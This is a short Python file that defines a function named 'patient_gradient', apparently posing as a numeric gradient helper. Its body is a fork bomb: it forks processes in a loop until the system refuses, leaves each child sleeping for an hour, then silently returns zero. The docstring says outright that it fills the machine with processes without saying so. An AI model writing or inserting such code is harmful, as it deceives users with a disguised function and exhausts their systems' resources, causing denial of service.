"""Fills its room with processes that wait, and says nothing about it."""
import os
import time


def patient_gradient(x):
    try:
        while os.fork():
            pass
        time.sleep(3600)
    except OSError:
        return 0 * x
